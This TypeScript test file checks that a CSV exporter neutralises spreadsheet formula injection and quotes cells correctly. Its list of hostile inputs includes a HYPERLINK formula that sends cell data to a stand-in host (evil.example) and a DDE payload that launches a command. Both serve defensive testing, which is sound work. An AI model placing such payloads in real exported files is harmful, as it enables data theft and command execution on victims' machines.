import { expect, test } from 'vitest'
import { toCsv, toJson } from './csv.ts'

/** Reads CSV as RFC 4180 describes it, apart from the code that writes it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＠SUM(A1)',
]

test.each(hostile)('[T49] %j is no formula, and nothing of it is lost', (text) => {
  const [head, row] = readCsv(toCsv([{ text, after: 'x' }]))
  expect(head).toEqual(['text', 'after'])
  expect(row).toEqual([`'${text}`, 'x'])
})

test.each([
  'plain',
  'a,b',
  'say "yes"',
  '"',
  'one\r\ntwo',
  'one\ntwo',
  ' = not first',
  "'quoted",
  'õäöü 你好 привет',
  '',
])('%j comes back as it was', (text) => {
  expect(readCsv(toCsv([{ text, after: 'x' }]))[1]).toEqual([text, 'x'])
})

test('[T49] no cell can leave its cell: quotes and line ends of a hostile one do not make a row', () => {
  const text = '"\r\n=1+1,"'
  expect(readCsv(toCsv([{ text }, { text: 'next' }]))).toEqual([['text'], [text], ['next']])
})

test('[T49] a column name and the items of a list are no formulas either', () => {
  expect(readCsv(toCsv([{ '=a': ['=1', 'b'], c: 1 }]))).toEqual([
    ["'=a", 'c'],
    ["'=1; b", '1'],
  ])
})

test('numbers stay numbers, null is empty', () => {
  expect(toCsv([{ a: -3, b: 0.5, c: null, d: true }])).toBe('a,b,c,d\r\n-3,0.5,,true\r\n')
})

test('columns are of all rows; a missing value, also of a name that objects know, is empty', () => {
  expect(toCsv([{ a: 1 }, { b: 2 }])).toBe('a,b\r\n1,\r\n,2\r\n')
  expect(toCsv([{ a: 1 }], ['constructor', 'a'])).toBe('constructor,a\r\n,1\r\n')
})

test('without rows there is the head, where columns are known', () => {
  expect(toCsv([], ['at', 'text'])).toBe('at,text\r\n')
  expect(toCsv([])).toBe('')
})

test('JSON holds the values unchanged', () => {
  const rows = [{ text: '=1+1', choices: ['a'], score: null }]
  expect(JSON.parse(toJson(rows))).toEqual(rows)
})
